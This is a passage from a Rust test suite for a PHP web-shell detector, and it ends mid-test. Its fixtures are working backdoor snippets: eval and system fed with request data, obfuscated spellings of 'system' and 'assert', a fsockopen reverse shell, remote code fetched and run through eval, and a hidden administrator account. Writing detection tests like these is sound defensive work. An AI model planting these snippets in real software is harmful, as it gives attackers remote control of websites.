use super::super::php::tokenize_for_test;
use super::*;

fn sinks(src: &str) -> Vec<(Why, Danger)> {
    let t = tokenize_for_test(src.as_bytes(), usize::MAX);
    let mut v: Vec<(Why, Danger)> = analyze(&t, Script::default()).into_iter().map(|s| (s.why, s.danger)).collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn request_data_into_code_and_shell() {
    assert_eq!(sinks("<?php $c = $_POST['c']; system($c);"), [(Why::ShellFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php $x = $_REQUEST; eval($x['a']);"), [(Why::CodeFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php eval('?>'.$_COOKIE['p']);"), [(Why::CodeFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php $h = getallheaders(); assert($h['X-Run']);"), [(Why::CodeFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php echo `{$_GET['c']}`;"), [(Why::ShellFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php $_GET['f']($_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
}

#[test]
fn hidden_names_are_resolved() {
    let s = "<?php $s = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = $s{0}.$s{18}.$s{18}.$s{4}.$s{17}.$s{19}; $f($_POST['z']);";
    assert_eq!(
        sinks(s),
        [
            (Why::CodeFromInput, Danger::Critical),
            (Why::HiddenFunctionName, Danger::High),
            (Why::HiddenFunctionName, Danger::Critical)
        ]
    );
    let s = "<?php $k = strrev('metsys'); $k($_GET['c']);";
    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
    let s = "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; @$f(base64_decode($_REQUEST['x']));";
    assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
}

#[test]
fn a_later_assignment_reaches_an_earlier_use() {
    // In a loop, the name is set after the call that uses it: the second pass sees it.
    let s = "<?php while (true) { if ($n) { $f($_POST['x']); } $f = 'sys' . 'tem'; $n = 1; }";
    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
    let s = "<?php function run() { eval($c); } $c = $_COOKIE['c']; run();";
    assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)], "functions have their own variables");
    let s = "<?php function run() { global $c; eval($c); } $c = $_COOKIE['c']; run();";
    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)], "unless they are declared global");
    let s = "<?php $x = 'echo 1;'; eval($x); $x = $_POST['x'];";
    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
}

#[test]
fn droppers_and_fetchers() {
    let s = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
    assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
    let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
    assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
    // Regression: fresh125's `isi_backup_file.php` tries its shell's copies, local paths and
    // other sites' addresses, and runs the first it finds; the loop's key is no address.
    let s = "<?php $paths = ['/home/u/public_html/wp-content/plugins/elementor/ganam.php', 'https://site.example/ganam.php'];\n\
             foreach ($paths as $path) { $content = file_get_contents($path); eval('?>' . $content); exit(); }";
    assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
    let local = s.replace("https://site.example/", "/home/u/public_html/");
    assert!(!sinks(&local).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(&local));
    assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
    // The archive's path kept in a table of escaped strings (fresh47's `zip://mkv_….zip#b_….tmp`
    // loaders); a long text that is no path is not kept.
    let table = "<?php $W = array(\"\\137\\x52EQUEST\", \"file_get_contents\", \"\\x7a\\x69\\x70://mkv_696f22a3aae66.zip#b_696f22a3aae66.tmp\", ); @include_once $W[2];";
    assert_eq!(sinks(table), [(Why::IncludeOfData, Danger::High)]);
    let text =
        "<?php $W = array('a', 'The archive zip://x.zip#y.tmp is described in this long sentence'); include $W[1];";
    assert!(sinks(text).is_empty(), "{:?}", sinks(text));
    // A PHP session file run as code (fresh40's `SESS_48cd…` loaders), in the temporary folder
    // or the site's root; a session's handler reading its files is not an include.
    let temp =
        "<?php error_reporting(0); include_once(sys_get_temp_dir() . \"/SESS_48cd7517d21176f980daa5502d9efb31\");";
    assert_eq!(sinks(temp), [(Why::IncludeOfData, Danger::High)]);
    let root =
        "<?php $r = substr($a, 0, strpos($a, $l)); include_once($r . \"/SESS_48cd7517d21176f980daa5502d9efb31.php\");";
    assert_eq!(sinks(root), [(Why::IncludeOfData, Danger::High)]);
    assert!(sinks("<?php $d = file_get_contents(session_save_path() . '/sess_' . session_id());").is_empty());
    assert!(sinks("<?php include __DIR__ . '/sess_helpers.php';").is_empty());
}

#[test]
fn data_is_followed_through_functions_closures_properties_and_lists() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
    crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
    crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
    crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
    crit(
        "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
        Why::CodeFromInput,
    );
    crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
    crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
    crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
    crit(
        "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
        Why::ShellFromInput,
    );
    crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
    crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
    crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
    crit("<?php include 'php://input';", Why::CodeFromInput);
    crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
    crit("<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);", Why::ShellFromInput);
    crit(
        "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
        Why::AdminBackdoor,
    );
    assert_eq!(sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"), [(Why::IncludeOfData, Danger::High)]);
    // An archive kept in uploads, named through a variable (fresh27's mu-plugin).
    let phar = "<?php $url = 'phar://./wp-content/uploads/2024/09/file.zip/file.php'; include($url);";
    assert_eq!(sinks(phar), [(Why::IncludeOfData, Danger::High)]);
    // Regression: fresh131's `1945.php` runs what its fetching class's method hands back
    // through another of its methods.
    let fetcher = "<?php class F { private $u; function __construct($u) { $this->u = $u; }\n\
                   function fetch() { $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $this->u); $c = curl_exec($ch); return $this->check($c); }\n\
                   private function check($c) { if (empty($c)) throw new Exception('e'); return $c; } }\n\
                   $f = new F(base64_decode('aHR0cHM6Ly9leGFtcGxlLm9yZy94LnBocA==')); $content = $f->fetch(); eval('?>' . $content);";
    assert!(sinks(fetcher).iter().any(|(_, d)| *d == Danger::Critical), "{:?}", sinks(fetcher));
    let shown = fetcher.replace("eval('?>' . $content);", "echo strlen($content);");
    assert!(sinks(&shown).is_empty(), "{:?}", sinks(&shown));
    // Regression: fresh131's stub runs a shell from a zip beside it through `phar://`.
    let beside = "<?php $filePath = 'phar://ww2.zip/505.php'; include_once $filePath;";
    assert_eq!(sinks(beside), [(Why::IncludeOfData, Danger::High)]);
    // A dropped zip's member, the path kept in a table of escaped texts (fresh28).
    let zip = "<?php $i = array(\"\\x7a\\x69\\x70://fla_1.zip#b_1.tmp\", 'x'); @require_once $i[0];";
    assert_eq!(sinks(zip), [(Why::IncludeOfData, Danger::High)]);
    // A tool's own archive is not (`composer.phar` beside the script).
    assert!(sinks("<?php require 'phar://' . __DIR__ . '/composer.phar/src/bootstrap.php';").is_empty());
    assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
    assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
}

#[test]
fn ordinary_functions_templates_and_mail_are_quiet() {
    assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
    assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
    assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
    assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
    assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
    // A template engine compiling to PHP through data: is like eval of a variable (weak).
    assert_eq!(
        sinks("<?php return include('data://text/plain,' . urlencode($php));"),
        [(Why::EvalOfVariable, Danger::Low)]
    );
}

#[test]
fn a_stand_in_for_phps_own_function_is_not_what_its_calls_reach() {
    // fresh108's HostCMS handler: an old `json_decode` made of `eval`, for PHP without one.
    let polyfill = "<?php if (!function_exists('json_decode')) { function json_decode($json) { $out = '$x=' . $json; eval($out . ';'); return $x; } }\n\
                    $data = json_decode(file_get_contents('php://input'));";
    assert!(!sinks(polyfill).iter().any(|(_, d)| *d >= Danger::High), "{:?}", sinks(polyfill));
    // A function of another name doing the same is a wrapper of `eval`.
    let own = polyfill.replace("json_decode", "my_decode");
    assert!(sinks(&own).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(&own));
}

#[test]
fn a_function_that_always_returns_one_name_is_that_name() {
    // fresh112's Godzilla and its evasive cousin: `r()` spells `str_replace`, which then
    // spells `base64_decode` and `create_function`.
    let src = "<?php function r() { $a = \"sfdtfdrf\"; $b = \"d_fdrfdefdpf\"; return str_replace(\"fd\", \"\", $a . $b . \"dlfdafdcfde\"); }\n\
               $re = r(); $k = $re(\"z\", \"\", \"zbazsze64\" . \"_zdzeczodze\"); $l = $re(\"p\", \"\", \"pcprpepaptpe_fp\" . \"upnpcptpipopn\");\n\
               $f = $l('', $k($_POST['p'])); $f();";
    assert!(sinks(src).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(src));
    // A function returning one of two texts, or its setting, is no one name.
    let either = "<?php function pick() { if (rand(0, 1)) { return 'strtoupper'; } return 'strtolower'; }\n\
                  $f = pick(); echo $f($_GET['t']);";
    assert!(!sinks(either).iter().any(|(_, d)| *d >= Danger::High), "{:?}", sinks(either));
}

#[test]
fn names_rebuilt_step_by_step_are_followed() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    // One variable reused: the value in the order of the text.
    crit("<?php $_ = 's'.'s'.'e'.'r'; $_ = 'a'.$_.'t'; $_(${'_PO'.'ST'}['x']);", Why::CodeFromInput);
    // Inverted bytes, letters counted up, and an index computed from comparisons.
    crit("<?php $k = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $k($_GET['c']);", Why::ShellFromInput);
    crit("<?php $a = 'r'; $a++; $f = $a . 'y' . $a . 'tem'; $f($_GET['c']);", Why::ShellFromInput);
    crit(
        "<?php $i = (2 > 1) + (2 > 1); $t = 'xxs'; $u = 'ystem'; $f = $t[$i] . $u; $f($_GET['c']);",
        Why::ShellFromInput,
    );
    // Pieces appended one at a time.
    crit(
        "<?php $t = table(); $n = ''; $n .= $t{0}; $n .= $t{1}; $n .= $t{2}; $n($_GET['c']);",
        Why::HiddenFunctionName,
    );
    // The file's variables reached from a function, by `global` and by `${'GLOBALS'}`.
    crit(
        "<?php $a = 'base64_decode'; function dec($s) { global $a; return gzinflate($a($s)); } eval(dec('eJwrAQA='));",
        Why::EvalOfDecoded,
    );
    crit(
        "<?php $n = 'base64_'.'decode'; function d($s) { return ${'GLOBALS'}['n']($s); } eval(d('ZWNobyAxOw=='));",
        Why::EvalOfDecoded,
    );
}

#[test]
fn code_in_strings_objects_and_callbacks_is_read() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    assert_eq!(
        sinks("<?php eval(\"move_uploaded_file(\\$_FILES['f']['tmp_name'], \\$_FILES['f']['name']);\");"),
        [(Why::UploadDropper, Danger::High)]
    );
    crit("<?php $f = create_function('$x', 'system($x);'); $f($_GET['c']);", Why::ShellFromInput);
    crit("<?php assert('eval($_POST[1]);');", Why::CodeFromInput);
    crit("<?php array_intersect_uassoc([$_REQUEST['c'] => 1], [1], 'assert');", Why::CodeFromInput);
    crit(
        "<?php mb_ereg_replace_callback('.+', function ($m) { return eval($m[0]); }, $_POST['c']);",
        Why::CodeFromInput,
    );
    crit("<?php filter_var($_POST['c'], FILTER_CALLBACK, ['options' => 'assert']);", Why::CodeFromInput);
    crit(
        "<?php class K { public $d; function __destruct() { eval($this->d); } } unserialize($_GET['o']);",
        Why::CodeFromInput,
    );
    crit(
        "<?php function unpack_it($s, $k) { return $s ^ $k; } eval(unpack_it($blob, $_GET['k']));",
        Why::CodeFromInput,
    );
}

#[test]
fn glue_functions_fetched_matches_and_hidden_names_as_values() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    // A helper that only glues its parameters, fed table lookups.
    crit(
        "<?php $t = 'tesyxm'; function g($a, $b, $c) { return $a . '' . $b . $c; } $f = g($t[2], $t[3], $t[2]) . g($t[0], $t[1], $t[5]); $f($_GET['c']);",
        Why::ShellFromInput,
    );
    // The same through a variable it returns (a packed shell's `pa` . `ck`).
    crit(
        "<?php function p($s) { $r = $s . 'ck'; return $r; } $f = 'pa'; $f = p($f); eval($f('H*', '706870696e666f28293b'));",
        Why::EvalOfDecoded,
    );
    // A helper that works on its parameter before returning it is not a glue (its value is
    // not known).
    assert!(sinks("<?php function p($s) { $r = trim($s); return $r; } $f = p('sys'); echo $f;").is_empty());
    // Code fetched, cut out by a pattern, and written after a PHP open tag: downloaded code.
    assert!(sinks(
        "<?php $r = curl_exec($ch); preg_match('#<c>(.*)</c>#s', $r, $m); $h = fopen($n, 'w'); fwrite($h, \"<?php\\n$m[1]\");"
    )
    .contains(&(Why::CodeFromInternet, Danger::High)));
    // A decoded dangerous name is a finding wherever it goes (here, a method's callback).
    assert!(
        sinks("<?php $rows = $q->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));")
            .contains(&(Why::HiddenFunctionName, Danger::High))
    );
}

#[test]
fn arrays_of_pieces_and_scripts_written_from_text() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    crit("<?php $p = explode('.', 'x.ass.y.er.t'); $f = $p[1] . $p[3] . $p[4]; $f($_POST['c']);", Why::CodeFromInput);
    crit("<?php $m = array('k' => 'sys', 'j' => 'tem'); $f = $m['k'] . $m['j']; $f($_POST['c']);", Why::ShellFromInput);
    crit("<?php $f = implode('', array_reverse(str_split('metsys'))); $f($_GET['c']);", Why::ShellFromInput);
    // A table of characters made by `range` (called by an assembled name), descending too.
    crit(
        "<?php $r = 'ra'.'nge'; $t = $r('~', ' '); $f = $t[29].$t[11].$t[11].$t[25].$t[12].$t[10]; $f($_POST['c']);",
        Why::CodeFromInput,
    );
    crit(
        "<?php $t = range('a', 'z'); $f = $t[18].$t[24].$t[18].$t[19].$t[4].$t[12]; $f($_GET['c']);",
        Why::ShellFromInput,
    );
    crit("<?php $i['j'] = 'assert'; $i['j']($_POST['x']);", Why::CodeFromInput);
    crit("<?php $it['w'] = 'assert'; $all[] = $it; $all[0]['w']($_POST['x']);", Why::CodeFromInput);
    crit("<?php $o = '_POST'; $v = 'x'; $f = 'assert'; $f($$o[$v]);", Why::CodeFromInput);
    assert!(
        sinks("<?php $r = new ReflectionFunction('assert'); $r->invoke($x);")
            .contains(&(Why::HiddenFunctionName, Danger::High))
    );
    assert!(sinks("<?php $m = []; $m['f'] = 'strtoupper'; $m['g'] = 'system'; echo $m['f']($_GET['x']);").is_empty());
    // `Array` joined to text gives letters.
    crit("<?php $a = []; $a = $a . ''; $f = $a[3] . 'sser' . 't'; $f($_GET['c']);", Why::CodeFromInput);
    assert!(
        sinks("<?php fputs(fopen('x.php', 'w'), '<?php eval($_POST[1]); ?>');")
            .contains(&(Why::UploadDropper, Danger::High))
    );
    assert!(
        sinks("<?php $f = create_function('$a', 'return assert($a);'); $m->addServer('h', 1, $f);")
            .contains(&(Why::HiddenFunctionName, Danger::High))
    );
    // Near misses: a settings file written from text, a list joined for display.
    assert!(sinks("<?php file_put_contents('cfg.php', '<?php return array(\\'debug\\' => false);');").is_empty());
    assert!(sinks("<?php $l = explode(',', 'a,b,c'); echo implode(' | ', $l); echo $l[0] . $l[1] . $l[2];").is_empty());
    // An alphabet for a pager's links, numbers for a year picker.
    assert!(sinks("<?php foreach (range('A', 'Z') as $c) { echo '<a href=\"?l=' . $c . '\">' . $c . '</a>'; } $y = range(1990, 2030);").is_empty());
}

#[test]
fn method_callbacks_bare_names_pieces_and_comments() {
    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
    let xsl = "<?php $x = '<xsl:value-of select=\"php:function(\\'assert\\', string(.))\"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions();";
    assert!(sinks(xsl).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(xsl));
    crit("<?php $db = new SQLite3('x'); $db->createFunction('f', $_REQUEST['e']);", Why::DynamicCallFromInput);
    assert!(
        sinks("<?php $a = new ArrayObject([$_POST['p']]); $a->uasort('assert');")
            .contains(&(Why::HiddenFunctionName, Danger::Medium))
    );
    crit("<?php $f = passthru; $f($_POST['c']);", Why::ShellFromInput);
    crit("<?php $m = 'sysatem'; $f = substr($m, 0, 3) . substr($m, 4); $f($_GET['c']);", Why::ShellFromInput);
    crit(
        "<?php function ff($s) { return eval($s); } filter_var($_POST['a'], FILTER_CALLBACK, ['options' => 'ff']);",
        Why::CodeFromInput,
    );
    crit("<?php $c = (new ReflectionClass('T'))->getDocComment(); eval(substr($c, 7, 20));", Why::EvalOfDecoded);
    crit("<?php $k = 'cmd'; foreach ($_POST as ${$k}) {} system($cmd);", Why::ShellFromInput);
    crit(
        "<?php ${'GLOBALS'}['k'] = 'sys' . 'tem'; function r() { ${'GLOBALS'}['k']($_GET['c']); }",
        Why::ShellFromInput,
    );
    // A decoder of the file's own that shifts characters.
    crit(
        "<?php function un($s) { $r = ''; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) - 1); } return $r; } eval(un('fdip!2<'));",
        Why::EvalOfDecoded,
    );
    assert!(
        sinks(
            "<?php $c = chr(65 + $i); file_put_contents($dir . '/x.php', '<?php return ' . var_export($c, true) . ';');"
        )
        .is_empty()
    );
    crit("<?php (@$_ = 'sys' . 'tem') . @$_($_GET['c']);", Why::ShellFromInput);
    let mut bare = b"<?php $x = ~".to_vec();
    bare.extend(b"system".iter().map(|c| !c));
    bare.extend_from_slice(b"; $x($_POST['c']);");
    let t = tokenize_for_test(&bare, usize::MAX);
    assert!(
        analyze(&t, Script::default()).iter().any(|s| s.why == Why::ShellFromInput && s.danger == Danger::Critical)
    );
    crit(
        "<?php function go($f, $a) { call_user_func_array($f, $a); } go('assert', [$_POST['a']]);",
        Why::CodeFromInput,
    );
    assert!(
        sinks("<?php function go2($f) { $f($_POST['x']); } go2(assert);")
            .contains(&(Why::HiddenFunctionName, Danger::High))
    );
    assert!(sinks("<?php function ap($f, $x) { return $f($x); } echo ap('strtoupper', $_GET['q']);").is_empty());
    let runner = "<?php function run($c) { if (function_exists('exec')) { exec($c, $o); } elseif (function_exists('shell_exec')) { $o = shell_exec($c); } else { system($c); } return $o; }";
    assert!(sinks(runner).contains(&(Why::ShellFromInput, Danger::High)));
    assert!(sinks("<?php function v($bin) { exec($bin . ' --version', $o); return $o; }").is_empty());
    // Near misses: a sort with a method, a word that is only a constant, a comment read.
    assert!(sinks("<?php $a->uasort([$this, 'cmp']); $s = SYSTEM_PATH; $d = $r->getDocComment(); echo $d;").is_empty());
}

#[test]
fn command_line_scripts_streams_and_callables_are_quiet() {
    let t = tokenize_for_test(b"#!/usr/bin/env php\n<?php $c = $_SERVER['argv'][1]; exec($c);", usize::MAX);
    assert!(analyze(&t, Script { command_line: true }).is_empty());
    assert_eq!(sinks("<?php $c = $_SERVER['argv'][1]; exec($c);"), [(Why::ShellFromInput, Danger::Critical)]);
    let checked = "<?php if (php_sapi_name() != 'cli') { exit; } $c = $_SERVER['argv'][1]; exec($c);";
    assert!(sinks(checked).is_empty());
    // `/e` with a fixed replacement (old code) is weak; with hidden code in it, it is not.
    assert_eq!(
        sinks("<?php $s = preg_replace('/(x)/e', 'strtoupper(\\'$1\\')', $s);"),
        [(Why::PregReplaceEval, Danger::Low)]
    );
    assert!(
        sinks("<?php preg_replace('/x/e', 'eval(base64_decode(\\'ZWNobyAx\\'))', 'x');")
            .contains(&(Why::EvalOfDecoded, Danger::Critical))
    );
    // A replacement that uses nothing of the match but calls the file's own functions: a
    // packed loader (`f(g($x))` run once for the whole subject).
    let loader = "<?php function g($a) { return gzinflate($a); } function f($c) { return eval($c); } \
                  $x = 'S0tMTgYA'; preg_replace('/.*/e', \"\\x66(\\x67(\\x24x))\", '.');";
    assert!(sinks(loader).contains(&(Why::PregReplaceEval, Danger::High)), "{:?}", sinks(loader));
    assert_eq!(
        sinks("<?php $s = preg_replace('/(\\w+)/e', 'ucfirst(\"\\\\1\")', $s);"),
        [(Why::PregReplaceEval, Danger::Low)]
    );
    assert!(sinks("<?php file_put_contents('php://stdout', \"[$t] $_SERVER[REQUEST_URI]\\n\");").is_empty());
    assert!(sinks("<?php $parts = array_map(rawurldecode(...), $raw);").is_empty());
    assert!(sinks("<?php $f = __DIR__ . '/lib/' . strtr($class, '\\\\', '/') . '.php'; require $f;").is_empty());
}

#[test]
fn code_written_to_a_file_and_included_is_run() {
    // Decoded data put behind an open tag in a temporary file, included, deleted.
    let via_file = "<?php $c = gzinflate(base64_decode($blob)); $f = tempnam(sys_get_temp_dir(), 'x'); \
                    file_put_contents($f, '<?php ' . $c); include($f); unlink($f);";
    assert!(sinks(via_file).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(via_file));
    // Decoded text written whole (it holds its own open tag), included, deleted.
    let whole = "<?php $c = base64_decode('PD9waHAgZWNobyAxOw=='); $f = '/tmp/' . md5(mt_rand()); \
                 @file_put_contents($f, $c); @include($f); @unlink($f);";
    assert!(sinks(whole).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(whole));
    // A settings file written and read back: quiet.
    let settings = "<?php $f = __DIR__ . '/cfg.php'; file_put_contents($f, '<?php return ' . var_export($cfg, true) . ';'); include $f;";
    assert!(sinks(settings).iter().all(|(_, d)| *d == Danger::Low), "{:?}", sinks(settings));
    // Through a method's parameter, called with decoded data.
    let method = "<?php class K { private function run($code) { $f = tempnam('/tmp', 'k'); \
                  @file_put_contents($f, '<?php ' . $code); @include($f); } \
                  function go($x) { $this->run(gzinflate(base64_decode($x))); } }";
    assert!(
        sinks(method).iter().any(|(w, d)| *w == Why::EvalOfDecoded && *d == Danger::Critical),
        "{:?}",
        sinks(method)
    );
    // The decoded data returned by another method of the object.
    let returned = "<?php class K { private function unpack($x) { $d = gzinflate(base64_decode($x)); return $d; } \
                    private function run($code) { $f = tempnam('/tmp', 'k'); file_put_contents($f, '<?php ' . $code); include $f; } \
                    function go($x) { $c = $this->unpack($x); $this->run($c); } }";
    assert!(sinks(returned).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(returned));
    // A command dispatcher's own method that calls what it is named (a server's command, not
    // PHP's): naming `eval` there is quiet.
    let dispatcher = "<?php class R { function command($m, $a) { return $this->c->{$m}(...$a); } \
                      function run($s) { return $this->command('eval', [$s, base64_decode($this->k)]); } }";
    assert!(sinks(dispatcher).is_empty(), "{:?}", sinks(dispatcher));
    // A template engine compiling a template it was given: weak at most.
    let engine = "<?php function prepare($php) { $fn = tempnam(sys_get_temp_dir(), 'l'); \
                  file_put_contents($fn, \"<?php $php ?>\"); $r = include($fn); unlink($fn); return $r; }";
    assert!(sinks(engine).iter().all(|(_, d)| *d == Danger::Low), "{:?}", sinks(engine));
}

#[test]
fn an_object_of_a_class_a_link_names_is_not_a_backdoor_alone() {
    // Regression: a CMS's admin page making the record type a link names, with the record's
    // id (`new $class($_GET['id'])`), was called a backdoor.
    let admin = "<?php $class = $_GET['type']; if (isset($_GET['id'])) { $obj = new $class($_GET['id']); }";
    assert!(sinks(admin).is_empty(), "{:?}", sinks(admin));
    // A reflected function the visitor names is still one.
    let reflect = "<?php $f = new ReflectionFunction($_GET['f']); $f->invoke($_GET['a']);";
    assert!(sinks(reflect).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(reflect));
}

#[test]
fn a_static_method_that_runs_its_parameter_is_a_wrapper() {
    let k = "<?php class K { public static function r($c) { return system($c); } } K::r($_GET['c']);";
    assert!(sinks(k).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(k));
    let own =
        "<?php class K { static function r($c) { eval($c); } function go() { self::r(base64_decode($this->x)); } }";
    assert!(sinks(own).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(own));
    // A static helper given the application's own values: quiet.
    assert!(sinks("<?php class Sh { static function run($c) { return exec($c); } } Sh::run('uptime');").is_empty());
}

#[test]
fn high_byte_words_in_brackets_are_their_own_bytes() {
    // `~` of a bare word of high bytes in brackets spells a name, as without brackets.
    let word: String = b"assert".iter().map(|c| char::from(!c)).collect::<String>();
    let src = format!("<?php $f = ~({word}); $f($_POST['x']);");
    let bytes: Vec<u8> = src.chars().map(|c| c as u32 as u8).collect();
    let t = tokenize_for_test(&bytes, usize::MAX);
    let v: Vec<Why> = analyze(&t, Script::default()).into_iter().map(|s| s.why).collect();
    assert!(v.contains(&Why::CodeFromInput) || v.contains(&Why::HiddenFunctionName), "{v:?}");
    // Ordinary words stay constants.
    assert!(sinks("<?php $f = (MY_HANDLER); $f($_POST['x']);").iter().all(|(w, _)| *w != Why::CodeFromInput));
}

#[test]
fn a_name_quoted_alone_is_its_variables_text() {
    assert!(
        sinks("<?php $a = 'assert'; array_map(\"$a\", $_REQUEST);").contains(&(Why::CodeFromInput, Danger::Critical))
    );
    assert!(sinks("<?php $a = 'trim'; array_map(\"$a\", $_REQUEST);").is_empty());
}

#[test]
fn code_given_to_a_function_of_unknown_name_is_read() {
    // The name picked from a table by indices in a loop (not folded), then given code.
    let picked = "<?php $t = 'xatsre'; $n = ''; foreach (array(1, 3, 3, 4, 5, 2) as $k) { $n .= $t[$k]; } \
                  $n(\"\\x65val(base64_decode(\\x24p))\");";
    assert!(sinks(picked).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(picked));
    assert!(sinks(picked).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(picked));
    // Indices taken from a list inside a `for` loop (the first turn folds to one letter).
    let first_turn = "<?php $t = 'xatsre'; $i = [1, 3, 3, 4, 5, 2]; $n = ''; for ($k = 0; $k < 6; $k++) { $j = $i[$k]; $n .= $t[$j]; } \
                      $n(\"eval(gzinflate(\\x24p))\");";
    assert!(sinks(first_turn).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(first_turn));
    // A function made by a maker of unknown name out of a decoded blob, then called.
    let made = format!(
        "<?php $t = 'xatsre'; $m = ''; foreach (array(3, 1, 5) as $k) {{ $m .= $t[$k]; }} \
         $f = $m('', base64_decode('{}')); $f();",
        "QUJD".repeat(300)
    );
    assert!(sinks(&made).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(&made));
    // A factory's product called, from a short literal: quiet.
    assert!(sinks("<?php $make = $cfg['factory']; $f = $make('', 'return 1;'); $f();").is_empty());
    // A callback given text, or code that does nothing dangerous: quiet.
    assert!(sinks("<?php $cb = $opts['cb']; $cb('Hello $name (see docs)');").is_empty());
    assert!(sinks("<?php $fmt = $this->fmt; echo $fmt('strtoupper($x)');").is_empty());
}

#[test]
fn code_in_literals_nested_deep_stays_bounded() {
    // Brackets inside code inside brackets: one depth bound for the whole stack.
    let inner = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
    let src = format!("<?php $a = {}eval('{inner}'){};", "[".repeat(95), "]".repeat(95));
    let _ = sinks(&src);
    // Literals in literals: a few levels are read, the rest are not.
    let mut code = "system($_GET[1]);".to_owned();
    for _ in 0..8 {
        code = format!("eval('{}');", code.replace('\\', "\\\\").replace('\'', "\\'"));
    }
    let _ = sinks(&format!("<?php {code}"));
}

#[test]
fn near_misses_of_rebuilt_names_are_quiet() {
    assert!(sinks("<?php $f = 'strtolower'; $f = 'trim'; echo $f($_GET['x']);").is_empty());
    // A plain name in a variable is not hidden (a library picking its replace function).
